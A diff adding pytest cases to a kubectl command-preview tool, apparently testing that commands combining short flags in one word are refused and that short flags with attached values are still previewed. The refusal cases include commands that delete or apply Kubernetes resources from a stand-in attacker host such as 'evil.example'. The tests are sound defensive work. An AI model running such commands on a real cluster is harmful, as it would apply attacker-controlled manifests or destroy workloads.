@@ -99,3 +99,26 @@ def test_a_trailing_flag_cannot_take_the_previews_own_flags_as_its_value(command
     assert added[0] == "--v=0"  # the word a trailing value flag may take
     assert added[1:] == (("--dry-run=server", "--v=0") if p.mode is Mode.DRY_RUN
                          else ("--v=0",))
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl delete -Rf https://evil.example/x.yaml",
+    "kubectl delete -Rfhttps://evil.example/x.yaml",
+    "kubectl delete deployment/web -n apps -is https://evil.example",
+    "kubectl apply -Rk https://github.com/evil/base",
+])
+def test_short_flags_combined_in_one_word_are_refused(command: str) -> None:
+    # kubectl reads -Rf as -R then -f (pflag: a flag without a value, then the next letter)
+    p = plan(parse(command))
+    assert p.mode is Mode.REFUSED and p.argv == ()
+    assert "combines short flags" in p.reason
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl scale deployment/web --replicas=3 -napps",
+    "kubectl label deployment/web a=b -n apps -v4",
+    "kubectl delete deployments -lapp=web -n apps",
+    "kubectl patch deployment/web -n apps -p'{}' -oname",
+])
+def test_a_short_flag_with_its_value_attached_is_still_previewed(command: str) -> None:
+    assert plan(parse(command)).mode is Mode.DRY_RUN
